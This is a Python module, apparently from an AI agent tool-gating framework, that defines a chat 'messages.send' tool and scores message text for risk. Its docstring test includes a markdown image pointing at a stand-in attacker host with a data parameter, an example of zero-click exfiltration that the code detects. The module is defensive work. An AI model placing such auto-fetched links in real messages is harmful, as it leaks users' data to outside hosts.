"""messages: words to channels and people of a chat service.

    messages.send  channel="slack:#releases" text="1.2 is out: https://docs.example.com/1.2"

A place is `service:id` (`_words.channels`); the constraint `channels` says which may be written to.  What a text does besides being read is
assessed: words that call everybody (`@here`, `<!channel>`), pictures and other things that a client fetches by itself, which can carry data
out without a click (T1567), and links whose address carries much besides its place; each of them is high risk, as are characters that nobody
sees.  Sending itself is a function of the program: this kind has no tokens.

>>> CHANNEL.parse("slack:#Releases")
'slack:#releases'
>>> TEXT.assess("look ![x](https://evil.example/?d=1)").reasons
('links to evil.example', 'something in it is fetched when it is shown, which can carry data out')
"""

from __future__ import annotations

from collections.abc import Callable, Mapping
from typing import Annotated, Final, TypeAlias

from capabilities._plain import Text
from capabilities._words.channels import Channels, channel
from capabilities._words.links import links
from capabilities._words.mentions import everybody
from gate.constraint import show_some
from gate.effect import Assessment, Risk
from gate.frozen import Frozen
from gate.kind import Kind, KindTool, ready
from gate.preview import Panel, facts, listing
from gate.preview import text as lines

_SENDS: Final = frozenset(["egress", "writes"])
LONGEST: Final = 40_000


class ChannelKind:
    """A channel or a person of a chat service. `service`: the one that is meant where a value names none, and the only one."""

    def __init__(self, service: str = "") -> None:
        self.name, self.service = "messages.channel", service

    def parse(self, value: object) -> str:
        """The place as `service:id`; ValueError says what is wrong with it."""
        return channel(value, self.service)

    def assess(self, value: object) -> Assessment:
        """Something is written there, for others to read."""
        return Assessment(_SENDS, Risk.MEDIUM, (f"writes to {value}"[:120],) if isinstance(value, str) else ())


class MessageText(Text):
    """The words of a message."""

    def __init__(self) -> None:
        super().__init__("text", LONGEST)
        self.name = "messages.text"

    def parse(self, value: object) -> str:
        """The text itself; ValueError for an empty one, a NUL, and one over 40,000 characters."""
        text = super().parse(value)
        if not text.strip() or "\0" in text:
            raise ValueError("a message is text that is not empty and holds no NUL")
        return text

    def assess(self, value: object) -> Assessment:
        """What the text does besides being read."""
        text = value if isinstance(value, str) else ""
        found, called = links(text), everybody(text)
        reasons = [f"links to {show_some(found.hosts[:6], ' and ').replace(chr(39), '')}"] if found.hosts else []
        bad = [f"calls everybody by {show_some(called[:3], ' and ')}"] if called else []
        if found.fetched:
            bad.append("something in it is fetched when it is shown, which can carry data out")
        if found.loaded:
            bad.append("a link in it carries much besides its place")
        if found.hidden:
            bad.append("it holds characters that nobody sees")
        techniques = frozenset(["T1567"]) if found.fetched or found.loaded else frozenset[str]()
        return Assessment(_SENDS, Risk.HIGH if bad else Risk.MEDIUM, (*reasons, *bad), techniques)


def channels(service: str, *names: str) -> Channels:
    """Admits these places of a service: `channels("slack", "#releases", "C024BE91L")`."""
    return Channels(service, list(names))


def headline(arguments: Mapping[str, Frozen]) -> str:
    """As in: write to slack:#releases."""
    called = everybody(str(arguments.get("text") or ""))
    return f"write to {arguments.get('channel')}{f', calling everybody by {called[0]}' if called else ''}"


def preview(arguments: Mapping[str, Frozen]) -> list[Panel]:
    """Where it goes, its text, and the hosts it links to."""
    words = str(arguments.get("text") or "")
    found, called = links(words), everybody(words)
    said = [("channel", str(arguments.get("channel"))), ("thread", str(arguments.get("thread") or "none"))]
    panels = [facts("message", [*said, ("calls everybody", ", ".join(called) or "no")]), lines("text", words)]
    return [*panels, listing("links to", found.hosts)] if found.hosts else panels


CHANNEL: Final = ChannelKind()
TEXT: Final = MessageText()
THREAD: Final = Text("thread", 200)
Channel: TypeAlias = Annotated[str, CHANNEL]


def kind_tool(service: str = "") -> KindTool:
    """The tool `messages.send`, for one service where one is named."""
    kinds: dict[str, Kind] = {"channel": ChannelKind(service), "text": TEXT, "thread": THREAD}
    return KindTool("messages.send", kinds, frozenset(["thread"]), headline=headline, preview=preview)


def tool(send: Callable[[str, str, str], object], service: str) -> Callable[..., object]:
    """A function `send(channel, text, thread="")`; `send` gets the service's own id of the channel, the text and the thread. For `gate.tool`."""

    def send_message(channel: str, text: str, thread: str = "") -> object:
        """Sends one message; what the service answers."""
        return send(channel.partition(":")[2], text, thread)

    return ready(kind_tool(service), send_message)


TOOLS: Final[dict[str, KindTool]] = {"messages.send": kind_tool()}
__all__ = ["CHANNEL", "TEXT", "TOOLS", "Channel", "ChannelKind", "Channels", "MessageText", "channels", "kind_tool", "tool"]
